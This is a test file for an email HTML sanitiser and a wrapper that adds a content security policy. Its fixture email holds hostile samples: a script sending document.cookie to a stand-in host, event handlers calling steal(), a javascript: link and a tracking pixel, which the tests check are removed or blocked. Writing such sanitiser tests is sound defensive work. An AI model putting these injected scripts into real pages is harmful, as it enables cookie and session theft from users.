// @vitest-environment jsdom
// DOMPurify does not support happy-dom (cure53/DOMPurify#1457): the sanitiser is tested in jsdom.
import { describe, expect, it } from 'vitest';

import { emailDocument } from './email-document';
import { sanitizeEmailHtml, textOfHtml } from './sanitize-email';

const email = `<!doctype html><html><head><style>p{color:navy}</style><script>alert('head')</script></head>
<body bgcolor="#ffffff" onload="steal()">
  <p onclick="steal()">Your order is confirmed</p>
  <script>document.location='https://evil.example/'+document.cookie</script>
  <img src="https://tracker.example/open.gif" onerror="steal()" alt="pixel">
  <img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
  <table background="https://cdn.example/bg.png"><tr><td style="background:url('https://cdn.example/x.png')">Section 101</td></tr></table>
  <a href="javascript:steal()">Open</a>
</body></html>`;

describe('sanitizeEmailHtml', () => {
  it('removes scripts and inline event handlers', () => {
    const { html } = sanitizeEmailHtml(email);
    expect(html).toContain('Your order is confirmed');
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain('steal()');
    expect(html).not.toMatch(/onerror|onload|onclick/i);
    expect(html).not.toContain('javascript:');
  });

  it('turns the body into a div and keeps the style sheet', () => {
    const { html } = sanitizeEmailHtml(email);
    expect(html).not.toMatch(/<body/i);
    expect(html).toMatch(/^<div bgcolor="#ffffff">/);
    expect(html).toContain('p{color:navy}');
  });

  it('holds back remote images until they are asked for', () => {
    const blocked = sanitizeEmailHtml(email);
    expect(blocked.blockedImages).toBe(3);
    expect(blocked.html).not.toMatch(/\ssrc="https:/);
    expect(blocked.html).toContain('data-src="https://tracker.example/open.gif"');
    expect(blocked.html).not.toMatch(/\sbackground="https:|url\(/);
    expect(blocked.html).toContain('data-background="https://cdn.example/bg.png"');
    expect(blocked.html).toContain('src="data:image/png;base64,iVBORw0KGgo="');

    const shown = sanitizeEmailHtml(email, { showImages: true });
    expect(shown.blockedImages).toBe(0);
    expect(shown.html).toMatch(/\ssrc="https:\/\/tracker.example\/open.gif"/);
    expect(shown.html).not.toMatch(/onerror/i);
  });

  it('reads the text of sanitised HTML', () => {
    expect(textOfHtml(sanitizeEmailHtml(email).html)).toBe('Your order is confirmed\nSection 101\nOpen');
  });
});

describe('emailDocument', () => {
  it('loads no remote content unless images are allowed, and draws table borders', () => {
    const blocked = emailDocument('<p>Hi</p>');
    expect(blocked).toContain('img-src data: cid:"');
    expect(blocked).toContain("default-src 'none'");
    expect(blocked).toContain('th,td{border:1px solid #d4d4d8;padding:4px 8px}');
    expect(emailDocument('<p>Hi</p>', { showImages: true })).toContain('img-src data: cid: https: http:');
  });
});
